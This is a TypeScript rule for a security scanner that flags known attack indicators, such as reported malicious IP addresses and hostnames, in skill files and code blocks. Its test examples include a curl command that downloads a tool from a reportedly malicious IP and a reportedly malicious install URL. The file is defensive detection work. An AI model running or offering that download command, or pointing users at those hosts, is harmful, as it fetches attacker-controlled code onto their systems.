import type { Evidence } from '../evidence.js'
import { INDICATORS, INDICATORS_DATE } from '../facts/indicators.js'
import type { Observation, Rule } from '../rule.js'

export const rule: Rule = {
  id: 'SK-IO001',
  pattern: 'known indicator',
  severity: 'block',
  why: 'This address or text is known from a reported attack.',
  fix: 'Remove it, and check what else came with it.',
  examples: {
    positive: [
      '```bash\ncurl -o tool http://91.92.242.30/tool\n```\n',
      { 'SKILL.md': 'Get it from https://install.app-distribution.net/setup/ .\n' },
    ],
    negative: [
      'Version 191.92.242.30 does not exist.\n',
      'Get it from https://example.com/setup-service.com.html .\n',
      'Known bad hosts to look out for:\n\n- `openclawcli.vercel.app.example`\n',
    ],
  },
  find: ({ segments }) => segments.flatMap(judge),
}

/** A scanner consists of such lists. */
const LISTS: readonly string[] = ['data', 'python', 'javascript', 'other']

function judge(segment: Evidence['segments'][number]): readonly Observation[] {
  if (segment.kind === 'inline') return []
  return INDICATORS.flatMap(({ value, what }): readonly Observation[] => {
    const at = segment.text.indexOf(value)
    // As part of a longer name or number it is something else.
    if (at < 0 || /[\w-]/.test(segment.text.charAt(at - 1)) || /^\.?[\w-]/.test(segment.text.slice(at + value.length)))
      return []
    const severity = LISTS.includes(segment.language) ? 'warn' : 'block'
    return [{ segment, at, severity, confidence: 'high', message: `${value} is ${what} (list of ${INDICATORS_DATE})` }]
  })
}
